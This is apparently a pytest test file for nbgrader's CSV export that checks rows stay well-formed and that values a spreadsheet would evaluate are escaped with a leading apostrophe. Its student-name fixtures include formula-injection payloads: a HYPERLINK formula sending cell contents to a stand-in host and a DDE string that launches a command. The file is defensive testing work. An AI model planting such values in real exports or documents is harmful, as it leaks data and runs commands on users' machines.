"""Promises about `nbgrader export`: proper CSV, and nothing in it that a spreadsheet works out."""

import csv

import pytest

from tests.nbgrader.courses import QUIZ, Course

pytestmark = pytest.mark.nbgrader

#: Names that students could have, by what they try.
NAMES = {
    "comma": 'O"Neill, Seán',
    "formula": '=HYPERLINK("http://elsewhere.example/?"&H2,"Open")',
    "plus": "+44 20 7946 0000",
    "at": "@SUM(1+1)",
    "spaces": "   =1+1",
    "tab": "\t=1+1",
    "line": "Ann\nLee",
    "plain": "Zoë",
}


@pytest.fixture(scope="module")
def rows(released, tmp_path_factory) -> list[dict[str, str]]:
    """Return the rows of an export with the names in it, as a program reads them."""
    course: Course = released.copy_to(tmp_path_factory.mktemp("export"))
    with course.gradebook() as gradebook:
        for student, name in NAMES.items():
            gradebook.add_student(student, last_name=name, first_name=name, email=name)
        gradebook.add_student("=cmd|' /C calc'!A0")
        gradebook.add_submission(QUIZ, "plain")
    course.nbgrader("export")
    with (course.folder / "grades.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_each_row_has_its_columns_and_each_name_survives(rows):
    """A comma, a quotation mark or a line break in a name moves nothing."""
    found = {row["student_id"]: row for row in rows}
    assert all(None not in row and len(row) == 11 for row in rows)
    for student, name in NAMES.items():
        assert found[student]["last_name"].removeprefix("'") == name
        assert found[student]["assignment"] == QUIZ
    assert found["plain"]["last_name"] == "Zoë"
    assert float(found["plain"]["max_score"]) > 0
    assert found["comma"]["score"] == "0.0"


def test_no_value_is_a_formula(rows):
    """What a spreadsheet would work out begins with an apostrophe, in every column."""
    begins = [value.lstrip(" ")[:1] for row in rows for value in row.values()]
    assert not {"=", "+", "-", "@", "\t", "\r", "\n"} & set(begins)
    assert sum(value.startswith("'") for row in rows for value in row.values()) == 3 * 5 + 1
